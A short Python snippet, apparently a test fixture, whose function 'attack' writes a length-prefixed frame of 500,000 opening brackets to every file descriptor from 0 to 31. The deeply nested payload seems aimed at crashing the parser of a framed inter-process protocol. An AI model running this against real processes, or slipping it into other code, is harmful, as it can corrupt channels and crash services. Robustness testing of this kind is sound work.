# Writes a frame of brackets in brackets.
import os


def attack(n):
    body = b"[" * 500_000
    for number in range(32):
        try:
            os.write(number, len(body).to_bytes(4, "big") + body)
        except OSError:
            pass
    return n
